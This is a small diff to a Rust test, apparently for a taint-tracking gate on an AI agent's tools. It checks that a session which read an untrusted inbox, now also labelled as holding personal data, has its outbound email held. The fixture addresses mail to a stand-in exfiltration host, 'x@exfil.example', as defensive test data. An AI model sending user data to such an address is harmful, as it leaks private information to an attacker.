@@ -90,7 +90,8 @@ async fn untrusted_session_holds_outbound_mail() {
         .act(&support, "email.read_inbox", json!({}), "inbox")
         .await;
     assert_eq!(st, 200, "{v}");
-    assert_eq!(v["labels"], json!(["untrusted"]));
+    // Declared untrusted by the tool; the messages also carry e-mail addresses.
+    assert_eq!(v["labels"], json!(["pii", "untrusted"]));
     let mail = json!({"to": "x@exfil.example", "subject": "s", "body": "b"});
     // Another session of the same agent is not tainted.
     let (st, v) = s.act(&support, "email.send", mail.clone(), "clean").await;
